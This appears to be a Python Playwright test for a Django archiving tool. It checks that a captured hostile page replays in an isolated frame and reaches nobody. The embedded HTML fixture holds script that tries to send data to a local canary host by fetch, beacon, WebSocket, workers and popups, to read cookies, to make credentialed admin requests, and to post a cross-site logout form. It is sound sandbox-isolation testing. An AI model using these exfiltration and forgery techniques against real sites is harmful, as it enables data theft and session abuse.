"""A sealed page in the frame of the desk: the engine plays it, and what the page tries reaches nobody."""

import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from ipaddress import ip_network
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.conf import settings
from django.contrib.sessions.backends.db import SessionStore
from django.test import override_settings
from django.urls import reverse
from playwright.sync_api import BrowserContext, sync_playwright

from claimdesk.cli.setup.judges import WABAC_WORKER
from sources.capture import pipeline
from sources.models import Capture
from tests.builders import a_source, editor
from tests.hosts import forget_hosts
from tests.web import Web, fixed, page, served

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SECONDS = 60
LEAVE_MILLISECONDS = 2000
WORDS = "The minister asked for radars and jammers, and the letter says so twice. " * 6
# Each way out ends with a word in `out`, so that a page that tried nothing fails the test.
HOSTILE = """<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Letter</title></head><body>
<article><h1>Letter about radars</h1><p>{words}</p></article><pre id="out"></pre>
<img src="/interop/dot.png" alt="">
<script>
if (!window.WB_wombat_location) document.documentElement.dataset.raw = "yes";
const away = "http://127.0.0.1:{canary}/";
const out = document.getElementById("out");
const tell = (word) => {{ out.textContent += word + " "; }};
const quiet = async (word, work) => {{ try {{ await work(); }} catch (_) {{ }} tell(word); }};
const later = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
const sees = (name) => new Promise((done) => {{
    const made = document.createElement(name); made.onload = made.onerror = done;
    made.src = away + name; document.body.append(made); setTimeout(done, 1000);
}});
(async () => {{
    await quiet("fetch", () => fetch(away + "fetch", {{ mode: "no-cors" }}));
    await quiet("beacon", () => navigator.sendBeacon(away + "beacon", "x"));
    await quiet("socket", () => new Promise((done) => {{
        const socket = new WebSocket("ws://127.0.0.1:{canary}/ws");
        socket.onopen = socket.onerror = socket.onclose = done;
    }}));
    for (const name of ["img", "iframe", "script", "video"]) await quiet(name, () => sees(name));
    await quiet("blob", () => new Promise((done) => {{
        const code = `fetch("${{away}}worker", {{mode: "no-cors"}}).catch(() => 0).then(() => postMessage(1))`;
        const worker = new Worker(URL.createObjectURL(new Blob([code])));
        worker.onmessage = worker.onerror = done; setTimeout(done, 1000);
    }}));
    await quiet("desk", () => fetch("{desk}/admin/", {{ mode: "no-cors", credentials: "include" }}));
    await quiet("popup", () => window.open(away + "popup"));
    await quiet("form", () => {{
        const form = document.createElement("form");
        form.action = "{desk}/accounts/logout/"; form.method = "post"; form.target = "elsewhere";
        document.body.append(form); HTMLFormElement.prototype.submit.call(form);
    }});
    await quiet("bare-engine", () => navigator.serviceWorker.register("/engine.js").then(() => tell("REGISTERED")));
    tell(document.cookie || "no-cookies");
    tell("tried");
}})();
window.leave = () => {{
    const own = document.createElement("iframe");
    document.body.append(own);
    own.contentWindow.location = away + "nested";
    try {{ top.location = away + "top"; }} catch (_) {{ tell("no-top"); }}
    try {{ parent.location = away + "parent"; }} catch (_) {{ tell("no-parent"); }}
    setTimeout(() => {{ location.href = away + "self"; }}, 500);
}};
</script></body></html>"""
WAYS = (
    *("fetch", "beacon", "socket", "img", "iframe", "script", "video", "blob", "desk", "popup", "form", "bare-engine"),
    *("no-cookies", "tried"),
)


@dataclass(frozen=True)
class Desk:
    """A desk with one archived page that is hostile; `session` is the cookie of an editor."""

    address: str
    session: str
    capture: Capture
    away: Web


@pytest.fixture
def desk(web: Web, live_server: Any) -> Iterator[Desk]:
    port = urlsplit(live_server.url).port
    address = f"http://127.0.0.1:{port}"
    reachable = override_settings(
        ALLOW_NETWORKS=[ip_network("127.0.0.0/8")],
        ALLOW_PORTS=[web.port],
        REPLAY_ENGINE=WABAC_WORKER,
        REPLAY_ORIGIN=f"http://*.replay.localhost:{port}",
    )
    with reachable, Web() as away:
        hostile = HOSTILE.format(words=WORDS, canary=away.port, desk=address)
        with served(fixed(page(hostile.encode())), "/interop/hostile"):
            capture = Capture.objects.get(source=a_source(web.url("/interop/hostile")))
            forget_hosts()
            pipeline.run(capture.pk, may_wait=False)
        capture.refresh_from_db()
        yield Desk(address, _session(), capture, away)


def _session() -> str:
    person = editor()
    session = SessionStore()
    session["_auth_user_id"] = str(person.pk)
    session["_auth_user_backend"] = settings.AUTHENTICATION_BACKENDS[0]
    session["_auth_user_hash"] = person.get_session_auth_hash()
    session.save()
    assert session.session_key is not None
    return session.session_key


@contextmanager
def ordinary_chromium(profile: Path) -> Iterator[BrowserContext]:
    """Chromium with a profile, as people have it: in Playwright's private windows, frames of others get no worker."""
    with sync_playwright() as playwright:
        window = playwright.chromium.launch_persistent_context(
            profile,
            executable_path=shutil.which("chromium"),
            args=["--no-sandbox", "--disable-gpu", "--disable-features=HttpsUpgrades"],
            headless=True,
        )
        yield window
        window.close()


# What the engine rewrites, and the bytes as they came: there only the policies of the two origins hold.
@pytest.mark.parametrize("way", ["mp_", "id_"])
def test_a_hostile_page_is_replayed_and_reaches_nobody(desk: Desk, tmp_path: Path, way: str) -> None:
    place = f"{desk.address}{reverse('admin:sources_capture_change', args=[desk.capture.pk])}"
    with ordinary_chromium(tmp_path) as window:
        window.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": desk.session, "url": desk.address}])
        shown = window.new_page()
        shown.set_default_timeout(SECONDS * 1000)
        shown.goto(place)
        shown.locator(".replay summary").click()
        replay = shown.frame_locator(".replay iframe")
        replayed = replay.frame_locator("#replayed")
        assert replayed.locator("h1").inner_text() == "Letter about radars"
        if way == "id_":
            address = f"w/capture/id_/{desk.capture.url}"
            replay.locator("#replayed").evaluate("(frame, address) => { frame.src = address; }", address)
            replayed.locator("html[data-raw]").wait_for()
        replayed.locator("#out", has_text="tried").wait_for()
        assert replayed.locator("#out").inner_text().split() == [*WAYS]
        pages = len(window.pages)
        replayed.locator("body").evaluate("() => window.leave()")
        shown.wait_for_timeout(LEAVE_MILLISECONDS)
        assert (shown.url, len(window.pages)) == (place, pages)
        shown.reload()
        assert shown.locator("h1").inner_text() == f"Capture #{desk.capture.pk}"
    assert desk.away.requests == []


def test_a_page_is_replayed_in_no_tab_of_its_own(desk: Desk, tmp_path: Path) -> None:
    """There no policy of the desk would hold it back from leading elsewhere."""
    with ordinary_chromium(tmp_path) as window:
        window.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": desk.session, "url": desk.address}])
        shown = window.new_page()
        shown.set_default_timeout(SECONDS * 1000)
        shown.goto(f"{desk.address}{reverse('admin:sources_capture_change', args=[desk.capture.pk])}")
        address = shown.locator(".replay iframe").get_attribute("src")
        answer = shown.goto(address or "")
        assert answer is not None
        assert answer.status == 403
